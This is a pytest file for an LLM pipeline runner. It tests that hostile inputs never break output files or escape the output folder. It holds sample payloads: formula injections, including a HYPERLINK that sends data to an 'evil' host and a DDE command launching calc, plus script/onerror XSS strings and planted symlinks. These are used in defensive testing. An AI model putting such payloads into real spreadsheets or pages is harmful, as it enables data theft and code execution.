"""Hostile input, round 3 (issue 31): what a run writes. Odd text never breaks a file,
an item's failure stays in that item, and no write leaves the output folder or lands on
the run's own input."""

from __future__ import annotations

import csv
import json
import os
import xml.etree.ElementTree as ET
from pathlib import Path
from unittest.mock import ANY

import pytest

from helpers import VERDICTS, run, scripted_seats, write_json
from runner.testing import Reply

REPO = Path(__file__).resolve().parents[2]
VERDICT_SCHEMA = {"type": "object", "required": ["verdict", "reason"],
                  "properties": {"verdict": {"type": "string"}, "reason": {"type": "string"}}}
JUDGE = """
    version: 1
    name: hj
    models: {m: {model: scripted/m1, backoff: 0.01, retries: 0}}
    steps:
      - id: ask
        uses: llm
        with: {model: m, prompt: ask.j2, output_schema: verdict.schema.json}
    output:
      claim: "{{ item.claim }}"
      verdict: "{{ steps.ask.output.verdict }}"
      reason: "{{ steps.ask.output.reason }}"
      verified: "{{ steps.ask.output.verdict == 'VALID' }}"
    summary:
      count_by: verdict
      rates: {verification_rate: "{{ result.verified }}"}
    """
# Every kind of text a hostile input or answer carries: lone surrogates (raw, and escaped
# in the answer's JSON), U+FFFE/U+FFFF, control characters, formula prefixes, HTML.
HOSTILE = ["x \ud800 lone", "=HYPERLINK(\"http://evil/?x=\"&B2,\"Click\")", "+cmd|' /C calc'!A0", "-2+3",
           "@SUM(A1)", "\tTAB", "\rCR", "bell \x01 vt \x0b ff \x0c end", "non \ufffe \uffff chars",
           "<script>alert(1)</script><img src=x onerror=alert(2)>"]


@pytest.fixture
def judge(project, scripted_llm):
    project.schema("verdict.schema.json", VERDICT_SCHEMA)
    project.prompt("ask.j2", "Judge: {{ item.claim }}\n")
    return project.pipeline(JUDGE)


def valid_outputs(out: Path) -> list[dict]:
    """Every file of a run folder is valid: UTF-8 throughout, JSON lines, XML, CSV."""
    for path in out.rglob("*"):
        if path.is_file() and ".sqlite" not in path.name:          # a memo store is a database, not text
            path.read_bytes().decode("utf-8")          # strict: no surrogate, no stray byte
    results = [json.loads(line) for line in (out / "results.jsonl").read_text(encoding="utf-8").splitlines()]
    json.loads((out / "summary.json").read_text(encoding="utf-8"))
    if (out / "junit.xml").exists():
        ET.parse(out / "junit.xml")
    if (out / "results.csv").exists():
        rows = _csv_rows(out / "results.csv")
        assert len(rows) == len(results) + 1
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    return results


# ---- H1: one safe encoding path for everything written ------------------------------------

def test_lone_surrogates_in_the_input_and_the_answer_never_break_a_file(project, judge, scripted_llm, cli):
    scripted_llm.script(Reply('{"verdict": "VALID", "reason": "bad \\ud83d escaped"}'), contains="escaped")
    scripted_llm.script(Reply('{"verdict": "VALID", "reason": "bad \ud83d raw"}'))
    source = write_json(project.root / "in.json", [{"claim": "x \ud800"}, {"claim": "escaped"}, {"claim": "ok"}])
    result = cli("run", str(judge), "--input", str(source), "--out", "out", "--format", "csv", "--format", "junit")
    assert result.exit_code == 0, result.output
    first, second, third = valid_outputs(project.root / "out")
    assert first["claim"] == "x \ufffd" and "error" not in first
    assert second["reason"] == "bad \ufffd escaped" and third["reason"] == "bad \ufffd raw"
    assert project.summary()["total"] == 3 and project.summary()["errors"] == 0
    calls = (project.root / "out" / "calls.jsonl").read_text(encoding="utf-8").splitlines()
    assert len(calls) == 3 and any("x \ufffd" in json.loads(line)["messages"][-1]["content"] for line in calls)
    scripted_llm.reset()
    again = cli("run", str(judge), "--input", str(source), "--out", "again")
    assert again.exit_code == 0, again.output
    assert scripted_llm.requests == []                                   # all three answers came from the cache
    assert [r["reason"] for r in valid_outputs(project.root / "again")][1:] == ["bad \ufffd escaped", "bad \ufffd raw"]


def test_a_cached_bad_answer_never_crashes_a_rerun(project, judge, scripted_llm, cli):
    import diskcache
    scripted_llm.script(Reply('{"verdict": "VALID", "reason": "fine"}'))
    source = write_json(project.root / "in.json", [{"claim": "a"}, {"claim": "b"}, {"claim": "c"}])
    assert cli("run", str(judge), "--input", str(source), "--out", "out").exit_code == 0
    cache = diskcache.Cache(str(project.root / "cache" / "responses"))
    keys = sorted(cache.iterkeys())
    assert len(keys) == 3
    # As a cache written by another tool or version: escaped lone surrogates, not JSON, not an answer.
    cache.set(keys[0], json.dumps({"content": json.dumps({"verdict": "VALID", "reason": "cached \ud83d"}),
                                   "finish_reason": "stop", "usage": {"prompt_tokens": "12.5"}}))
    cache.set(keys[1], "{not json")
    cache.set(keys[2], json.dumps([1, 2]))
    cache.close()
    scripted_llm.reset()
    scripted_llm.script(Reply('{"verdict": "VALID", "reason": "asked again"}'))
    again = cli("run", str(judge), "--input", str(source), "--out", "again")
    assert again.exit_code == 0, again.output
    reasons = sorted(r["reason"] for r in valid_outputs(project.root / "again"))
    assert reasons == ["asked again", "asked again", "cached \ufffd"]
    assert len(scripted_llm.requests) == 2                               # only the unreadable entries


@pytest.mark.parametrize("usage", ["12.5", [1], 1e400, {"x": 1}])
def test_odd_usage_counts_are_unknown_usage_not_an_error(project, judge, scripted_llm, usage):
    body = json.dumps({"id": "c", "object": "chat.completion", "model": "m1",
                       "choices": [{"index": 0, "finish_reason": "stop", "message": {
                           "role": "assistant", "content": '{"verdict": "VALID", "reason": "ok"}'}}],
                       "usage": {"prompt_tokens": usage, "completion_tokens": 7, "total_tokens": usage}})
    scripted_llm.script(Reply(raw_body=body.replace('Infinity', '1e400')))
    [result] = run(judge, write_json(project.root / "in.json", [{"claim": "a"}])).results
    assert result["verdict"] == "VALID" and "error" not in result
    usage_seen = json.loads((project.root / "out" / "summary.json").read_text())["models"]["m"]
    assert usage_seen["calls"] == 1 and usage_seen["failures"] == 0


# ---- H3: item-level failures stay in that item ------------------------------------------------

def test_a_record_with_odd_warnings_or_an_error_field_is_an_ordinary_item(project, scripted_llm):
    from test_evidence_judge import batch, cls, judgment
    scripted_llm.script(Reply(judgment(0.9)))
    source = write_json(project.root / "in.json", [batch([cls("A", warnings=5), cls("B", error="from the input"),
                                                          cls("C")])])
    outcome = run(REPO / "pipelines" / "evidence_judge.yaml", source, out=project.root / "out",
                  overrides=[*scripted_seats("judge"), "models.judge.backoff=0.01", "models.judge.retries=0"])
    a, b, c = outcome.results
    assert a["input_warnings"] == 5 and "error" not in a and "warnings" not in a
    assert b["input_error"] == "from the input" and "error" not in b
    assert outcome.summary["total"] == 3 and outcome.summary["errors"] == 0
    assert (project.root / "out" / "report.md").exists()


@pytest.mark.parametrize("records", [[{"id": "a-1"}, {"id": 7}], [{}, {"id": 7}], [{"id": None}, {"id": 7}]])
def test_an_output_index_that_is_not_an_item_number_fails_only_its_item(project, cli, records):
    path = project.pipeline("""
        version: 1
        name: t
        steps: [{id: echo, uses: compute, with: {n: 1}}]
        output:
          index: "{{ item.id | default(none) }}"
        summary: {count_by: index}
        """)
    result = cli("run", str(path), "--input", str(write_json(project.root / "in.json", records)), "--out", "out")
    assert result.exit_code == 0, result.output
    first, second = valid_outputs(project.root / "out")
    assert first["index"] == 1 and "is not an item number" in first["error"]
    assert second == {"index": 7, "item_key": ANY}
    assert project.summary()["errors"] == 1
    assert "is not an item number" in (project.root / "out" / "report.md").read_text()


def test_a_memo_store_entry_with_an_index_or_odd_warnings_keeps_the_items_own(project, cli):
    path = project.pipeline("""
        version: 1
        name: t
        memo: {key: "{{ item.k }}"}
        steps: [{id: echo, uses: compute, with: {n: 1}}]
        output: {n: "{{ steps.echo.n }}"}
        """)
    assert cli("run", str(path), "--input", str(write_json(project.root / "in.json", [{"k": "a"}])),
               "--out", "out").exit_code == 0
    import sqlite3
    with sqlite3.connect(project.root / "out" / "memo.sqlite") as db:        # the entry made, then tampered with
        (text,) = db.execute("SELECT result FROM memo WHERE key = 'a'").fetchone()
        entry = {**json.loads(text), "index": "abc", "warnings": 5, "n": 9}
        db.execute("UPDATE memo SET result = ? WHERE key = 'a'", (json.dumps(entry),))
    source = write_json(project.root / "in.json", [{"k": "a"}, {"k": "b"}])
    assert cli("run", str(path), "--input", str(source), "--out", "out").exit_code == 0
    first, second = valid_outputs(project.root / "out")
    assert first == {"index": 1, "item_key": ANY, "n": 9, "memo_hit": True} and second == {"index": 2, "item_key": ANY, "n": 1}


# ---- H6: a run never writes over its own input ----------------------------------------------

CITING = """
    version: 1
    name: t
    input: {adapter: markdown_citations}
    steps: [{id: echo, uses: compute, with: {n: "{{ item.claim }}"}}]
    output: {n: "{{ steps.echo.n }}"}
    """


@pytest.mark.parametrize("name, out", [("report.md", "."), ("report.md", "folder"), ("summary.json", "folder"),
                                       ("calls.jsonl", "folder")])
def test_an_out_that_would_write_over_the_input_is_refused(project, cli, name, out):
    source = project.file(f"{out}/{name}", "A claim [a.txt:L1](a.txt).\n")
    before = source.read_text()
    result = cli("run", str(project.pipeline(CITING)), "--input", str(source), "--out", out)
    assert result.exit_code == 2
    assert f"--out {out} would write over it" in result.output and f"writes {name.split('/')[0]} there" in result.output
    assert source.read_text() == before
    assert not (project.root / out / "results.jsonl").exists()


def test_an_input_beside_the_outputs_is_fine(project, cli):
    source = project.file("folder/notes.md", "A claim [a.txt:L1](a.txt).\n")
    assert cli("run", str(project.pipeline(CITING)), "--input", str(source), "--out", "folder").exit_code == 0
    assert source.read_text() == "A claim [a.txt:L1](a.txt).\n" and project.results("folder")


# ---- H7: a planted symlink never sends a write or a removal outside the folder --------------

def _outside(project) -> Path:
    outside = project.root / "outside"
    outside.mkdir()
    for name in ("victim.txt", "notes_2024.txt"):
        (outside / name).write_text("keep me")
    return outside


@pytest.mark.parametrize("planted", [".runner.lock", "results.jsonl", "summary.json", "calls.jsonl"])
def test_a_symlink_planted_in_the_output_folder_is_refused(project, judge, scripted_llm, cli, planted):
    scripted_llm.script(Reply('{"verdict": "VALID", "reason": "fine"}'))
    outside = _outside(project)
    (project.root / "out").mkdir()
    (project.root / "out" / planted).symlink_to(outside / "victim.txt")
    source = write_json(project.root / "in.json", [{"claim": "a"}])
    result = cli("run", str(judge), "--input", str(source), "--out", "out")
    assert result.exit_code == 2
    assert f"{planted} there is a symbolic link; a run never writes through one" in result.output
    assert sorted(p.name for p in outside.iterdir()) == ["notes_2024.txt", "victim.txt"]
    assert all(p.read_text() == "keep me" for p in outside.iterdir())


def test_writes_open_no_symlink_even_when_one_appears_after_the_check(tmp_path):
    from runner.fileio import OutputError
    from runner.runs.results_file import ResultsLog
    (tmp_path / "victim").write_text("keep me")
    (tmp_path / "results.jsonl").symlink_to(tmp_path / "victim")
    with pytest.raises(OutputError):
        ResultsLog(tmp_path / "results.jsonl")
    assert (tmp_path / "victim").read_text() == "keep me"


# ---- H8: no writable content shared between runs and the cache; the umask holds --------------

def test_a_runs_calls_file_is_its_own_with_the_umask(project, judge, scripted_llm, cli):
    scripted_llm.script(Reply('{"verdict": "VALID", "reason": "fine"}'))
    source = write_json(project.root / "in.json", [{"claim": "a"}])
    assert cli("run", str(judge), "--input", str(source), "--out", "one").exit_code == 0
    previous = os.umask(0o077)
    try:
        assert cli("run", str(judge), "--input", str(source), "--out", "two").exit_code == 0
    finally:
        os.umask(previous)
    first, second = (project.root / name / "calls.jsonl" for name in ("one", "two"))
    original = json.loads(first.read_text())
    assert json.loads(second.read_text())["messages"] == original["messages"]
    assert "Judge: a" in original["messages"][-1]["content"]
    assert not (project.root / "cache" / "call_logs").exists()       # nothing of a call is kept beside the cache
    assert second.stat().st_mode & 0o777 == 0o600
    assert {p.stat().st_mode & 0o777 for p in (project.root / "two").rglob("*") if p.is_file()} == {0o600}
    second.write_text("TAMPERED")
    assert json.loads(first.read_text()) == original
    assert cli("run", str(judge), "--input", str(source), "--out", "three").exit_code == 0
    assert json.loads((project.root / "three" / "calls.jsonl").read_text())["answer"] == original["answer"]
    assert scripted_llm.requests and len(scripted_llm.requests) == 1


# ---- H21: a run whose setup fails leaves no folder behind -------------------------------------

def test_a_run_that_fails_to_start_leaves_no_run_folder(project, cli):
    path = project.pipeline("""
        version: 1
        name: t
        concurrency: "{{ params.width }}"
        params: {width: wide}
        steps: [{id: echo, uses: compute, with: {n: 1}}]
        output: {n: "{{ steps.echo.n }}"}
        """)
    result = cli("run", str(path), "--record", "n=1")
    assert result.exit_code == 2, result.output
    group = project.root / "reports" / "t" / "record"
    assert not group.exists() or list(group.iterdir()) == []


# ---- H12: CSV cells a spreadsheet would run are neutralised (OWASP); --csv-raw keeps them ----

FORMULAS = ["=HYPERLINK(\"http://evil/?x=\"&B2,\"Click\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
            "\tTAB", "\rCR", "=1+1"]
ECHO_CLAIM = """
    version: 1
    name: t
    steps: [{id: echo, uses: compute, with: {n: "{{ item.claim }}"}}]
    output: {claim: "{{ steps.echo.n }}", score: "{{ item.score }}"}
    """


def _csv_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.reader(handle))


def test_csv_cells_starting_a_formula_are_neutralised(project, cli):
    records = [{"claim": text, "score": -0.5, "=cmd": "x"} for text in FORMULAS]
    source = write_json(project.root / "in.json", records)
    path = project.pipeline(ECHO_CLAIM.replace("output:", "output_base: \"{{ {'=cmd': item['=cmd']} }}\"\n    output:"))
    assert cli("run", str(path), "--input", str(source), "--out", "out", "--format", "csv").exit_code == 0
    header, *rows = _csv_rows(project.root / "out" / "results.csv")
    assert header == ["index", "'=cmd", "claim", "score"]
    assert [row[2] for row in rows] == [f"'{text}" for text in FORMULAS]
    assert {row[3] for row in rows} == {"-0.5"}                       # a number stays a number
    assert cli("run", str(path), "--input", str(source), "--out", "raw", "--format", "csv", "--csv-raw").exit_code == 0
    header, *rows = _csv_rows(project.root / "raw" / "results.csv")
    assert header[1] == "=cmd" and [row[2] for row in rows] == FORMULAS


# ---- H13: junit.xml is well-formed XML 1.0 whatever the text --------------------------------

def test_junit_is_well_formed_whatever_the_text(project, cli):
    texts = ["bell \x01 vt \x0b ff \x0c end", "non \ufffe \uffff", "lone \ud800", "<b>&amp;</b>\x00"]
    records = [{"claim": t, "score": 1} for t in texts] + [{"claim": t, "score": "x"} for t in texts]
    source = write_json(project.root / "in.json", records)
    path = project.pipeline(ECHO_CLAIM.replace('"{{ item.score }}"', '"{{ item.claim ~ (item.score + 1) }}"') + """
    summary:
      rates: {good_rate: "{{ result.claim == 'never' }}"}
      report_columns: [claim]
    """)
    assert cli("run", str(path), "--input", str(source), "--out", "out", "--format", "junit").exit_code == 0
    cases = list(ET.parse(project.root / "out" / "junit.xml").iter("testcase"))
    # labels show what XML 1.0 refuses (and any control character) as a visible escape
    expected = ["bell \\x01 vt \\x0b ff \\x0c end", "non \\ufffe \\uffff", "lone \ufffd", "<b>&amp;</b>\\x00"]
    assert [case.get("name") for case in cases] == [f"item {n} (claim {t})" for n, t in enumerate(expected * 2, 1)]
    assert [case.find("failure") is not None for case in cases] == [True] * 4 + [False] * 4
    errors = [case.find("error") for case in cases[4:]]
    assert all(error is not None and "output.score" in error.get("message") for error in errors)


# ---- H15: every file a command reads is a located message (exit 2), never a traceback -------

@pytest.fixture
def two_runs(project, cli):
    path = project.pipeline(VERDICTS)
    source = write_json(project.root / "in.json", [{"v": "A"}, {"v": "B"}])
    for out in ("one", "two"):
        assert cli("run", str(path), "--input", str(source), "--out", out).exit_code == 0
    return path, source


def _spoil(folder: Path, spoil: str) -> str:
    """Damage a run folder one way; returns the file the message must name."""
    results, summary = folder / "results.jsonl", folder / "summary.json"
    lines = results.read_text().splitlines()
    if spoil == "summary a list":
        summary.write_text("[1, 2]\n")
        return "summary.json"
    if spoil in ("counts a list", "count_by a list"):
        data = json.loads(summary.read_text())
        data[spoil.split()[0]] = ["A", 1]
        summary.write_text(json.dumps(data))
        return "summary.json"
    if spoil == "summary deep":
        summary.write_text("[" * 100_000 + "]" * 100_000)
        return "summary.json"
    if spoil == "summary not UTF-8":
        summary.write_bytes(b'{"total": "\xff\xfe"}')
        return "summary.json"
    replacement = {"line a list": "[1, 2]", "index abc": '{"index": "abc", "verdict": "A"}',
                   "index null": '{"index": null, "verdict": "A"}', "index 1e400": '{"index": 1e400, "verdict": "A"}',
                   "index true": '{"index": true, "verdict": "A"}',
                   "line deep": "[" * 100_000 + "]" * 100_000}[spoil]
    results.write_text("\n".join([lines[0], replacement]) + "\n")
    return "results.jsonl:2"


RESULT_SPOILS = ["line a list", "index abc", "index null", "index 1e400", "index true", "line deep"]
SUMMARY_SPOILS = ["summary a list", "counts a list", "count_by a list", "summary deep", "summary not UTF-8"]


@pytest.mark.parametrize("spoil", RESULT_SPOILS + SUMMARY_SPOILS)
def test_diff_of_a_spoiled_run_is_a_located_message(project, cli, two_runs, spoil):
    where = _spoil(project.root / "two", spoil)
    result = cli("diff", "one", "two")
    assert result.exit_code == 2, result.output
    assert f"two/{where}" in result.output, result.output


def test_diff_prints_an_escaped_lone_surrogate_as_a_replacement(project, cli, two_runs):
    results = project.root / "two" / "results.jsonl"
    first = results.read_text().splitlines()[0]
    results.write_text(first + "\n" + '{"index": 2, "verdict": "B \\ud800"}\n')
    result = cli("diff", "one", "two", "--json")
    assert result.exit_code == 0, result.output
    assert json.loads(result.output)["changed"] == [{"index": 2, "changes": {"verdict": ["B", "B \ufffd"]}}]


@pytest.mark.parametrize("spoil", RESULT_SPOILS)
def test_failed_from_a_spoiled_run_is_a_located_message(project, cli, two_runs, spoil):
    path, source = two_runs
    where = _spoil(project.root / "two", spoil)
    result = cli("run", str(path), "--input", str(source), "--out", "three", "--failed-from", "two")
    assert result.exit_code == 2, result.output
    assert f"two/{where}" in result.output, result.output


@pytest.mark.parametrize("spoil", RESULT_SPOILS + ["summary a list", "count_by a list", "summary deep"])
def test_eval_of_a_spoiled_run_is_a_located_message(project, cli, two_runs, spoil):
    labels = write_json(project.root / "labels.json", [{"index": 1, "verdict": "A"}, {"index": 2, "verdict": "B"}])
    where = _spoil(project.root / "two", spoil)
    result = cli("eval", "two", "--labels", str(labels), "--key", "index", "--truth", "verdict")
    assert result.exit_code == 2, result.output
    assert f"two/{where}" in result.output, result.output


@pytest.mark.parametrize("name, content, message", [
    ("labels.jsonl", b'{"index": 1, "verdict": "\xff"}\n', "labels.jsonl:1:26: not UTF-8 text (byte 0xff)"),
    ("labels.json", b'[{"index": 1, "verdict": "A\xc3"}]', "labels.json:1:28: not UTF-8 text (byte 0xc3)"),
    ("labels.csv", b"index,verdict\n1,\xff\n", "labels.csv:2:3: not UTF-8 text (byte 0xff)"),
    ("labels.json", b"[" * 100_000 + b"]" * 100_000, "labels.json: JSON nested too deeply"),
    ("labels.jsonl", b"[" * 100_000 + b"]" * 100_000 + b"\n", "labels.jsonl:1: JSON nested too deeply"),
    ("labels.csv", b"index,verdict\n1,NaN\n2,inf\n", "labels.csv:2: verdict 'NaN' is not a finite number"),
], ids=["jsonl-bytes", "json-bytes", "csv-bytes", "json-deep", "jsonl-deep", "csv-nan"])
def test_eval_of_hostile_labels_is_a_located_message(project, cli, two_runs, name, content, message):
    labels = project.root / name
    labels.write_bytes(content)
    result = cli("eval", "two", "--labels", str(labels), "--key", "index", "--truth", "verdict", "--kind", "numeric",
                 "--predicted", "index")
    assert result.exit_code == 2, result.output
    assert message in result.output, result.output


@pytest.mark.parametrize("content, message", [
    (b'{"index": 1, "trace_id": "t0", "verdict": "\xff"}\n', "results.jsonl:1:"),
    (b"[" * 100_000 + b"]" * 100_000 + b"\n", "results.jsonl:1: "),
], ids=["bytes", "deep"])
def test_feedback_on_a_hostile_store_is_a_located_message(project, cli, content, message):
    (project.root / "store").mkdir()
    (project.root / "store" / "results.jsonl").write_bytes(content)
    (project.root / "store" / "summary.json").write_text('{"pipeline": "p", "total": 1, "errors": 0}')
    result = cli("feedback", "--store", "store", "--trace-id", "t1", "--up")
    assert result.exit_code == 2, result.output
    assert message in result.output, result.output


@pytest.mark.parametrize("content, message", [
    (b'{"type": "object", "title": "\xff"}', "answer.schema.json:1:30: not UTF-8 text (byte 0xff)"),
    (b'{"a": ' * 100_000 + b"1" + b"}" * 100_000, "answer.schema.json: JSON nested too deeply"),
], ids=["bytes", "deep"])
def test_a_hostile_schema_file_is_a_located_message(project, cli, content, message):
    (project.root / "schemas" / "answer.schema.json").write_bytes(content)
    path = project.pipeline("""
        version: 1
        name: t
        models: {m: {model: openai/m1, api_base: "http://127.0.0.1:9/v1"}}
        steps: [{id: ask, uses: llm, with: {model: m, prompt: "Hi", output_schema: answer.schema.json}}]
        output: {a: "{{ steps.ask.raw }}"}
        """)
    result = cli("validate", str(path))
    assert result.exit_code == 2, result.output
    assert message in result.output, result.output


# ---- Done when: every answer and every record hostile, every output file valid --------------

def test_a_run_whose_every_answer_and_record_is_hostile_writes_valid_files(project, judge, scripted_llm, cli):
    reason = " | ".join(HOSTILE) + " escaped \\ud83d"
    answer = json.dumps({"verdict": "=VALID", "reason": reason}, ensure_ascii=False)
    scripted_llm.script(Reply(answer.replace("\\\\ud83d", "\\ud83d")))          # raw and JSON-escaped surrogates
    records = [{"claim": text, "note": text} for text in HOSTILE]
    source = write_json(project.root / "in.json", records)
    for out in ("out", "again"):                                          # sent, then from the cache
        result = cli("run", str(judge), "--input", str(source), "--out", out, "--format", "csv", "--format", "junit")
        assert result.exit_code == 0, result.output
        results = valid_outputs(project.root / out)
        assert len(results) == len(HOSTILE) and not any("error" in r for r in results)
        for r in results:
            assert r["verdict"] == "=VALID" and "x \ufffd lone" in r["reason"] and r["reason"].endswith("escaped \ufffd")
        summary = project.summary(out)
        assert summary["total"] == len(HOSTILE) and summary["errors"] == 0 and summary["counts"] == {"=VALID": 10}
        assert len((project.root / out / "calls.jsonl").read_bytes().splitlines()) == len(HOSTILE)
        header, *rows = _csv_rows(project.root / out / "results.csv")
        assert [row[header.index("verdict")] for row in rows] == ["'=VALID"] * len(HOSTILE)
        cases = list(ET.parse(project.root / out / "junit.xml").iter("testcase"))
        assert len(cases) == len(HOSTILE)
        assert "&lt;script&gt;" in (project.root / out / "report.html").read_text(encoding="utf-8")
        markdown = (project.root / out / "report.md").read_text(encoding="utf-8")
        assert "<script" not in markdown.lower() and "<img" not in markdown.lower()      # H16: no raw HTML
    assert len(scripted_llm.requests) == len(HOSTILE)


# ---- issue 50, F1: every field read from a run folder is type-checked -------------------------

FIELD_SPOILS = [("run.json", "input", "x"), ("run.json", "pipeline", ["x"]), ("run.json", "selection", 3),
                ("run.json", "models", "m"), ("run.json", "input.sha256", 7), ("summary.json", "partial", "no"),
                ("summary.json", "interrupted", 1), ("summary.json", "total", "7"),
                ("summary.json", "models", {"m": "x"})]


# Every field through `diff`; `eval` and `--failed-from` read the two files through the same checker
# (runner/runs/checked.py, one schema a file), so one field of each file stays in the default run for
# them and their other fields run under `-m slow` (two runs a case: 2 s of CPU the default run saves).
FIELD_CASES = [pytest.param(*spoil, command, id=f"{spoil[0]}-{spoil[1]}-{spoil[2]!r}-{command}",
                            marks=[] if command == "diff" or spoil[1] in ("input", "total") else [pytest.mark.slow])
               for command in ("diff", "eval", "failed-from") for spoil in FIELD_SPOILS]


@pytest.mark.parametrize(("name", "field", "value", "command"), FIELD_CASES)
def test_a_run_folder_field_of_the_wrong_type_is_a_message_naming_file_and_field(project, cli, two_runs, name, field,
                                                                                  value, command):
    path, source = two_runs
    file = project.root / "two" / name
    data = json.loads(file.read_text())
    *outer, last = field.split(".")
    place = data
    for part in outer:
        place = place[part]
    place[last] = value
    file.write_text(json.dumps(data))
    if command == "diff":
        result = cli("diff", "one", "two")
    elif command == "eval":
        labels = write_json(project.root / "labels.json", [{"index": 1, "verdict": "A"}, {"index": 2, "verdict": "B"}])
        result = cli("eval", "two", "--labels", str(labels), "--key", "index", "--truth", "verdict")
    else:
        result = cli("run", str(path), "--input", str(source), "--out", "three", "--failed-from", "two")
    assert result.exit_code == 2, result.output
    shown = field if field != "models" or name == "run.json" else "models.m"
    assert f"two/{name}: {shown}: " in result.stderr, result.output


def test_a_record_field_named_as_a_kept_results_note_is_an_ordinary_field(project):
    """A record passed through `output_base` with a field named `runner:votes` (or `_answered`)
    was taken for the note a kept result carries: the memo rerun dropped it and summed made-up
    juror votes. It is kept as `input_<name>`, and a rerun from the memo gives the same results."""
    fake = [["fake", False, {"a": "yes", "b": "no"}]]
    path = project.pipeline("""
        version: 1
        name: t
        memo: {key: "{{ item.n }}"}
        output_base: "{{ item }}"
        steps: [{id: s, uses: compute, with: {n: "{{ item.n }}"}}]
        output: {n: "{{ steps.s.n }}"}
        """)
    source = write_json(project.root / "in.json", [{"n": 1, "runner:votes": fake, "_answered": "mine"}])
    first = list(run(path, source, out=project.root / "one").results)
    second = run(path, source, out=project.root / "one")            # the memo store lives in the folder
    assert first[0]["input_runner:votes"] == fake and first[0]["input__answered"] == "mine"
    assert second.results[0]["memo_hit"] is True
    assert [{k: v for k, v in r.items() if k != "memo_hit"} for r in second.results] == first
    assert "juries" not in second.summary


CHAIN = """
version: 1
name: t
env: [STRICT]
models: {a: {model: scripted/a, retries: 0}, b: {model: scripted/b, retries: 0}}
steps:
  - {id: jury, uses: jury, with: {models: [a, b], prompt: "Is {{ item.n }} fine?", vote: {field: v},
                                  output_schema: {type: object, properties: {v: {type: string}}}}}
  - {id: gate, uses: fail, if: "{{ item.bad and env.STRICT == 'yes' }}", with: {message: "bad item {{ item.n }}"}}
output: {v: "{{ steps.jury.v }}"}
summary: {count_by: v}
"""


def test_a_chain_of_failed_from_reruns_measures_the_jurors_over_every_item(project, scripted_llm, monkeypatch):
    """A ran 9 items (3 fail after their jury); B reran those 3, which now pass; C reran B with
    nothing to redo. Each measures its jurors over the 9 (B's own votes were once overwritten
    by its parent's, so C counted 6), and no results file or report shows the votes."""
    from runner.api import ItemSource, run_pipeline
    from runner.runs.request import RunOptions, Selection
    scripted_llm.script('{"v": "yes"}', model="a")
    scripted_llm.script('{"v": "no"}', model="b")
    path = project.pipeline(CHAIN)
    source = write_json(project.root / "in.json", [{"n": n, "bad": n % 3 == 0} for n in range(1, 10)])
    monkeypatch.setenv("STRICT", "yes")         # what the gate reads, outside the pipeline: no other judge
    run(path, source, out=project.root / "A")
    monkeypatch.setenv("STRICT", "no")
    for parent, out in (("A", "B"), ("B", "C")):
        run_pipeline(path, ItemSource(source, [], None, Selection(None, None, Path(parent))),
                     RunOptions(cache_dir=project.root / "cache", out_dir=Path(out)), [])
    for folder in ("A", "B", "C"):
        assert project.summary(folder)["juries"]["jury"]["items"] == 9, folder
        assert not any("runner:votes" in (project.root / folder / name).read_text()
                       for name in ("results.jsonl", "report.md", "report.html", "summary.json")), folder
    assert project.summary("C")["errors"] == 0


@pytest.mark.parametrize("votes", [b"\xff\xfe\n[1]\n\"x\"\n{\"index\": 1}\n{\"index\": 1, \"votes\": 5}\n",
                                   b'{"index": 1, "votes": [["jury", false, {"a": [1], "b": {"x": 1}}]]}\n' * 3,
                                   b'\xef\xbb\xbf{"index": 1, "votes": [["jury", false, {"a": "yes"}]]}\n',
                                   b'{"index": 1, "votes": [["scores", true, {"a": 1' + b"0" * 400 + b', "b": 2}]]}\n'],
                         ids=["damaged", "odd", "bom", "huge-number"])
def test_a_hand_edited_votes_file_is_read_as_data(project, scripted_llm, votes, monkeypatch):
    """A parent's votes.jsonl that is damaged or odd: a `--failed-from` rerun passes over what it
    cannot read and ends as any rerun, with no traceback."""
    from runner.api import ItemSource, run_pipeline
    from runner.runs.request import RunOptions, Selection
    scripted_llm.script('{"v": "yes"}', model="a")
    scripted_llm.script('{"v": "no"}', model="b")
    path = project.pipeline(CHAIN)
    source = write_json(project.root / "in.json", [{"n": n, "bad": n == 2} for n in range(1, 4)])
    monkeypatch.setenv("STRICT", "yes")
    run(path, source, out=project.root / "A")
    (project.root / "A" / "votes.jsonl").write_bytes(votes)
    monkeypatch.setenv("STRICT", "no")
    run_pipeline(path, ItemSource(source, [], None, Selection(None, None, Path("A"))),
                 RunOptions(cache_dir=project.root / "cache", out_dir=Path("B")), [])
    assert project.summary("B")["errors"] == 0 and project.summary("B")["total"] == 3


def test_a_rerun_without_juries_writes_no_votes_file(project, monkeypatch):
    """votes.jsonl is absent where no item met a jury, a --failed-from rerun's too."""
    from runner.api import ItemSource, run_pipeline
    from runner.runs.request import RunOptions, Selection
    path = project.pipeline("""
        version: 1
        name: t
        env: [STRICT]
        steps:
          - {id: s, uses: compute, with: {n: "{{ item.n }}"}}
          - {id: gate, uses: fail, if: "{{ item.n == 2 and env.STRICT == 'yes' }}", with: {message: "bad"}}
        output: {n: "{{ steps.s.n }}"}
        """)
    source = write_json(project.root / "in.json", [{"n": 1}, {"n": 2}])
    monkeypatch.setenv("STRICT", "yes")
    run(path, source, out=project.root / "A")
    monkeypatch.setenv("STRICT", "no")
    run_pipeline(path, ItemSource(source, [], None, Selection(None, None, Path("A"))),
                 RunOptions(cache_dir=project.root / "cache", out_dir=Path("B")), [])
    assert project.summary("B")["errors"] == 0
    assert not (project.root / "A" / "votes.jsonl").exists() and not (project.root / "B" / "votes.jsonl").exists()
